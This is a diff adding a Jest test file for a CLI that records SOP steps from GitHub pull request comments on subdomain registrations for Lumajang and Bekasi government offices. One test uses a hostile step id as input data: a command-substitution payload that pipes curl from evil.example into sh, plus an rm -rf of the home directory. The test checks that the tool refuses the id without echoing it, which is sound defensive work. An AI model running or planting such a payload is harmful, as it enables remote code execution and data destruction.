@@ -1,0 +1,208 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { main } from '../../src/cli/main.js';
+import type { Io } from '../../src/cli/io.js';
+import { parseFile } from '../../src/repo/load.js';
+import { STEP_REPLY_MARKER } from '../../src/steps/reply.js';
+import { cleanupTemps, gitIn, tempGitRepo } from '../helpers/temp-repo.js';
+import { officeDir } from './helpers.js';
+import { StepFakeGitHub } from './support/fake-github.js';
+
+const REPO = 'pemkab-lumajang/subdomain';
+const LUMAJANG_FILE = 'subdomains/perizinan.lumajangkab.go.id.yaml';
+const BEKASI_FILE = 'subdomains/sehat.bekasikota.go.id.yaml';
+
+let fake: StepFakeGitHub;
+let root: string;
+
+async function step(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
+  let stdout = '';
+  let stderr = '';
+  const io: Io = {
+    cwd: root,
+    env: { GITHUB_API_URL: fake.url, GITHUB_TOKEN: 'test-token', SUBDOMAIN_GITHUB_RETRY_BASE_MS: '1', SUBDOMAIN_GITHUB_THROTTLE: 'off', ...env },
+    stdout: (t) => void (stdout += t),
+    stderr: (t) => void (stderr += t),
+    now: () => new Date('2026-11-24T03:00:00Z'),
+  };
+  const code = await main(['step', ...args], io);
+  return { code, stdout, stderr };
+}
+
+const onComment = (id: number, pr = 7) => ['--repo', REPO, '--pr', String(pr), '--comment', String(id)];
+const comment = (user: string, body: string, created_at = '2026-11-17T03:00:00Z', on = 7) => fake.addComment({ user, body, created_at, on });
+const status = () => gitIn(root, 'status', '--porcelain');
+const diffStat = () => gitIn(root, 'diff', '--numstat').trim();
+
+beforeEach(async () => {
+  fake = await new StepFakeGitHub(REPO).start();
+  fake.pulls.push({ number: 7, author: 'staf-dpmptsp', created_at: '2026-11-17T01:00:00Z', merged_at: '2026-11-17T02:20:00Z' });
+  fake.pulls.push({ number: 8, author: 'staf-dpmptsp', created_at: '2026-11-18T01:00:00Z', merged_at: null });
+  fake.pulls.push({ number: 9, author: 'staf-dpmptsp', created_at: '2026-11-18T01:00:00Z', merged_at: '2026-11-18T02:00:00Z' });
+  fake.teams['pemkab-lumajang/ppi-spbe'] = { 'staf-spbe': 'active', 'calon-staf': 'pending' };
+  root = tempGitRepo(officeDir('lumajang'));
+});
+
+afterEach(async () => {
+  expect(fake.invalid).toEqual([]);
+  await fake.close();
+  cleanupTemps();
+});
+
+describe('subdomain step: recording', () => {
+  test('an official’s /step comment appends the step to the pull request’s history, and one reply confirms it', async () => {
+    const id = comment('admin-server-lmj', '/step laporan_admin Subdomain sudah aktif.');
+    const result = await step(onComment(id));
+    expect(result).toMatchObject({ code: 0 });
+    // Exactly one line added to the register file, nothing else touched.
+    expect(diffStat()).toBe(`1\t0\t${LUMAJANG_FILE}`);
+    const text = readFileSync(join(root, LUMAJANG_FILE), 'utf8');
+    expect(text).toContain(
+      '      - { step: laporan_admin, title: Administrator Server menginformasikan kepada Kasi PPI SPBE bahwa perintah sudah dilaksanakan, role: administrator_server, by: admin-server-lmj, at: "2026-11-17T03:00:00Z", elapsed_s: 3360, standard_s: 300 }\n    opened_at:',
+    );
+    expect(parseFile(LUMAJANG_FILE, new TextEncoder().encode(text), 'register').ok).toBe(true);
+    expect(fake.replies).toHaveLength(1);
+    expect(fake.replies[0]!.body.startsWith(STEP_REPLY_MARKER)).toBe(true);
+    expect(fake.replies[0]!.body).toContain('Langkah dicatat / step recorded');
+    expect(fake.replies[0]!.body).toContain('@admin-server-lmj — Administrator Server');
+    expect(fake.replies[0]!.body).not.toContain('Subdomain sudah aktif');
+  });
+
+  test('steps follow one another; an active team member holds the team’s role', async () => {
+    expect((await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z')))).code).toBe(0);
+    const second = await step(onComment(comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T03:04:00Z')));
+    expect(second.code).toBe(0);
+    const text = readFileSync(join(root, LUMAJANG_FILE), 'utf8');
+    expect(text).toContain('{ step: penerimaan_laporan, title: Kasi PPI SPBE menerima informasi bahwa subdomain baru sudah dibuat, role: kasi_ppi_spbe, by: staf-spbe, at: "2026-11-17T03:04:00Z", elapsed_s: 240, standard_s: 300 }');
+    expect(fake.log.filter((l) => l.path.includes('/memberships/'))).toEqual([{ method: 'GET', path: '/orgs/pemkab-lumajang/teams/ppi-spbe/memberships/staf-spbe', status: 200 }]);
+    expect(fake.replies.at(-1)!.body).toMatch(/\| `penerimaan_laporan` .*\| @staf-spbe, 2026-11-17T03:04:00Z \|/);
+  });
+
+  test('Bekasi: /langkah penyerahan by the Kasi records SOP row 5', async () => {
+    root = tempGitRepo(officeDir('bekasi'));
+    fake.pulls.push({ number: 12, author: 'staf-dinkes', created_at: '2026-11-17T01:55:00Z', merged_at: '2026-11-17T03:22:00Z' });
+    const result = await step(onComment(comment('kasi-egov', '/langkah penyerahan', '2026-11-17T03:32:00Z', 12), 12));
+    expect(result.code).toBe(0);
+    expect(diffStat()).toBe(`1\t0\t${BEKASI_FILE}`);
+    expect(readFileSync(join(root, BEKASI_FILE), 'utf8')).toContain('role: kasi_pengembangan, by: kasi-egov, at: "2026-11-17T03:32:00Z", elapsed_s: 720, standard_s: 600 }');
+    expect(fake.replies[0]!.body).toContain('terlambat / late');
+  });
+
+  test('a re-run on a comment already recorded changes nothing and does not reply again', async () => {
+    const id = comment('admin-server-lmj', '/langkah laporan_admin');
+    expect((await step(onComment(id))).code).toBe(0);
+    gitIn(root, 'commit', '-qam', 'recorded');
+    const again = await step(onComment(id));
+    expect(again.code).toBe(0);
+    expect(again.stdout).toContain('sudah dicatat dari komentar ini');
+    expect(status()).toBe('');
+    expect(fake.replies).toHaveLength(1);
+  });
+
+  test('--dry-run writes nothing and replies nothing', async () => {
+    const result = await step([...onComment(comment('admin-server-lmj', '/langkah laporan_admin')), '--dry-run']);
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain('Langkah dicatat');
+    expect(status()).toBe('');
+    expect(fake.replies).toEqual([]);
+  });
+});
+
+describe('subdomain step: refusals reply once, write nothing, exit 1', () => {
+  async function refused(id: number, pr = 7): Promise<string> {
+    const result = await step(onComment(id, pr));
+    expect(result.code).toBe(1);
+    expect(status()).toBe('');
+    expect(fake.replies).toHaveLength(1);
+    expect(fake.replies[0]!.body).toContain('Langkah tidak dicatat / step not recorded');
+    return fake.replies[0]!.body;
+  }
+
+  test('out of order under strict order', async () => {
+    expect(await refused(comment('kasi-spbe-lmj', '/langkah penerimaan_laporan'))).toContain('`laporan_admin` harus dicatat lebih dulu');
+  });
+
+  test('by the applicant', async () => {
+    expect(await refused(comment('staf-dpmptsp', '/langkah laporan_admin'))).toContain('adalah pemohon');
+  });
+
+  test('by someone without the role (a pending team invitation does not count)', async () => {
+    expect(await refused(comment('calon-staf', '/langkah laporan_admin'))).toContain('tidak memegang peran Administrator Server');
+  });
+
+  test('a step that is not in the SOP: the reply lists the after-merge steps', async () => {
+    const body = await refused(comment('admin-server-lmj', '/langkah penyerahan'));
+    expect(body).toContain('Langkah `penyerahan` tidak ada dalam SOP.');
+    expect(body).toContain('| `laporan_admin` ');
+    expect(body).toContain('| `pengiriman_surat` ');
+  });
+
+  test('a pull request that is not merged', async () => {
+    expect(await refused(comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-18T03:00:00Z', 8), 8)).toContain('Pull request #8 belum digabung');
+  });
+
+  test('a merged pull request that is not in the register yet (bilingual)', async () => {
+    const body = await refused(comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-18T03:00:00Z', 9), 9);
+    expect(body).toContain('Pull request #9 belum tercatat di daftar sub domain');
+    expect(body).toContain('Pull request #9 is not in the register');
+  });
+
+  test('a hostile step id is refused without being echoed', async () => {
+    const body = await refused(comment('admin-server-lmj', '/langkah $(curl${IFS}evil.example|sh) `rm -rf ~`'));
+    expect(body).not.toContain('curl');
+    expect(body).not.toContain('rm -rf');
+  });
+});
+
+describe('subdomain step: nothing to do, usage and API failures', () => {
+  test('a comment that is no command: exit 0, no reply, no change', async () => {
+    const result = await step(onComment(comment('admin-server-lmj', 'Terima kasih.\n/langkah laporan_admin')));
+    expect(result.code).toBe(0);
+    expect(status()).toBe('');
+    expect(fake.replies).toEqual([]);
+  });
+
+  test('a bot’s comment is never a command', async () => {
+    const id = fake.addComment({ user: 'sop-bot[bot]', type: 'Bot', body: '/langkah laporan_admin', created_at: '2026-11-17T03:00:00Z', on: 7 });
+    const result = await step(onComment(id));
+    expect(result.code).toBe(0);
+    expect(status()).toBe('');
+    expect(fake.replies).toEqual([]);
+  });
+
+  test('a comment on another pull request than --pr: exit 2', async () => {
+    const result = await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-18T03:00:00Z', 9), 7));
+    expect(result.code).toBe(2);
+    expect(status()).toBe('');
+  });
+
+  test('missing or malformed options: exit 2 with the usage', async () => {
+    for (const args of [['--repo', REPO, '--pr', '7'], ['--repo', REPO, '--pr', '07', '--comment', '1'], ['--repo', 'no-slash', '--pr', '7', '--comment', '1'], ['--pr', '7', '--comment', '1x']]) {
+      const result = await step(args);
+      expect(result.code).toBe(2);
+      expect(result.stderr).toContain('usage: subdomain step');
+    }
+  });
+
+  test('GitHub failing after retries: exit 2, nothing written, no reply', async () => {
+    fake.fail('GET', /\/issues\/comments\//, 502, 10);
+    const result = await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin')));
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('Membaca komentar');
+    expect(status()).toBe('');
+    expect(fake.replies).toEqual([]);
+  });
+
+  test('a bad token: exit 2 that says so', async () => {
+    const result = await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin')), { GITHUB_TOKEN: 'wrong' });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('401');
+  });
+
+  test('a reply that cannot be written: exit 2, so the workflow commits nothing', async () => {
+    fake.fail('POST', /\/issues\/7\/comments$/, 500, 10);
+    const result = await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin')));
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('Menulis balasan');
+  });
+});
